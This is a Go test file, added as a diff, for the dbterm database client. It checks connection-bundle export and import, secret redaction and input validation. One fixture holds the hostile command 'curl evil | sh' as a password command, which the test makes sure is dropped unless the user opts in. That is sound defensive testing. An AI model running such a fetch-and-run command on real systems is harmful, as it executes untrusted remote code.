@@ -0,0 +1,128 @@
+package main
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/shreyam1008/dbterm/internal/config"
+)
+
+func TestConnectionBundleRoundTripSkipsSavedProfiles(t *testing.T) {
+	saved := []config.ConnectionConfig{
+		{ID: "a", Name: "Orders", Type: config.PostgreSQL, Host: "db", Port: "5432", User: "alice", Password: "pw", Database: "orders", Active: true, LastUsed: "yesterday"},
+		{ID: "b", Name: "Local", Type: config.SQLite, FilePath: "/tmp/local.db"},
+	}
+	bundle := buildConnectionBundle(saved, true, time.Unix(0, 0))
+	data, err := json.Marshal(bundle)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), `"password":"pw"`) {
+		t.Fatalf("--omit-secrets bundle kept a password: %s", data)
+	}
+	if bundle.Connections[0].Active || bundle.Connections[0].LastUsed != "" {
+		t.Fatalf("bundle kept machine-local usage state: %+v", bundle.Connections[0])
+	}
+
+	parsed, err := parseConnectionBundle(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	added, skipped := planConnectionImport(saved, parsed)
+	if len(added) != 0 || len(skipped) != 2 {
+		t.Fatalf("re-import added=%d skipped=%d, want 0 and 2", len(added), len(skipped))
+	}
+
+	parsed.Connections = append(parsed.Connections, parsed.Connections[1])
+	parsed.Connections[2].FilePath = "/tmp/other.db"
+	added, _ = planConnectionImport(saved, parsed)
+	if len(added) != 1 || added[0].FilePath != "/tmp/other.db" {
+		t.Fatalf("new profile was not planned for import: %+v", added)
+	}
+}
+
+func TestConnectionImportDropsPasswordCommandsAndShowsInitSQL(t *testing.T) {
+	data := `{"format":"dbterm.connections","version":1,"connections":[
+  {"name":"Shared","type":"postgresql","host":"db","port":"5432","user":"app","password_command":"curl evil | sh","init_sql":"SET search_path = app;\nSET role   reporter"}
+]}`
+	bundle, err := parseConnectionBundle([]byte(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	added, _ := planConnectionImport(nil, bundle)
+	if details := connectionImportDetails(added[0]); len(details) != 3 || details[0] != "password_command: curl evil | sh" ||
+		details[2] != "init_sql: SET role reporter" {
+		t.Fatalf("preview details = %q", details)
+	}
+
+	kept := append([]config.ConnectionConfig(nil), added...)
+	if dropped := dropPasswordCommands(kept, true); dropped != nil || kept[0].PasswordCommand == "" {
+		t.Fatalf("--allow-password-command dropped %v", dropped)
+	}
+	if dropped := dropPasswordCommands(added, false); len(dropped) != 1 || dropped[0] != "Shared" || added[0].PasswordCommand != "" {
+		t.Fatalf("password_command was imported without opt-in: dropped %v, profile %+v", dropped, added[0])
+	}
+	if details := connectionImportDetails(added[0]); len(details) != 2 || !strings.HasPrefix(details[0], "init_sql: ") {
+		t.Fatalf("preview after dropping = %q", details)
+	}
+}
+
+func TestParseConnectionBundleRejectsForeignFiles(t *testing.T) {
+	if _, err := parseConnectionBundle([]byte(`{"format":"other","version":1}`)); err == nil {
+		t.Fatal("foreign bundle format was accepted")
+	}
+	if _, err := parseConnectionBundle([]byte(`{"format":"dbterm.connections","version":1,"connections":[{"name":"x","type":"sqlite"}]}`)); err == nil {
+		t.Fatal("invalid bundle profile was accepted")
+	}
+}
+
+func TestConnectionsAddFromURLAndFlags(t *testing.T) {
+	t.Setenv("DBTERM_CONFIG_DIR", t.TempDir())
+	t.Setenv("DBTERM_STATE_DIR", t.TempDir())
+
+	err := connectionsAddCommand([]string{"postgres://alice@db.example.com/orders", "--name", "Orders", "--read-only", "--env", "Production", "--password-stdin"}, strings.NewReader("s3cret\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	store, err := config.LoadStore()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(store.Connections) != 1 {
+		t.Fatalf("saved %d connections, want 1", len(store.Connections))
+	}
+	got := store.Connections[0]
+	if got.Name != "Orders" || got.Host != "db.example.com" || got.Port != "5432" || got.Password != "s3cret" || !got.ReadOnly || got.ID == "" || !got.IsProduction() {
+		t.Fatalf("unexpected saved profile: %+v", got)
+	}
+	if err := connectionsAddCommand([]string{"--name", "Broken", "--type", "mysql"}, strings.NewReader("")); err == nil {
+		t.Fatal("mysql profile without host was accepted")
+	}
+	if err := connectionsAddCommand([]string{"--name", "Tagged", "--file", "app.db", "--type", "sqlite", "--env", "qa", "--color", "crimson"}, strings.NewReader("")); err == nil {
+		t.Fatal("unknown environment color was accepted")
+	}
+}
+
+func TestConnectionsTestRedactsResolvedSecrets(t *testing.T) {
+	t.Setenv("DBTERM_CONFIG_DIR", t.TempDir())
+	t.Setenv("DBTERM_STATE_DIR", t.TempDir())
+	t.Setenv("DBTERM_TEST_TURSO_TOKEN", "tok-from-env")
+
+	store, err := config.LoadStore()
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The bad escape makes the driver echo its DSN, token included.
+	if err := store.Add(config.ConnectionConfig{Name: "Edge", Type: config.Turso, Host: "http://127.0.0.1:1/%zz", AuthToken: "${DBTERM_TEST_TURSO_TOKEN}"}); err != nil {
+		t.Fatal(err)
+	}
+	err = connectionsTestCommand([]string{"Edge"})
+	if err == nil {
+		t.Fatal("unreachable host connected")
+	}
+	if strings.Contains(err.Error(), "tok-from-env") {
+		t.Fatalf("error leaked the resolved token: %v", err)
+	}
+}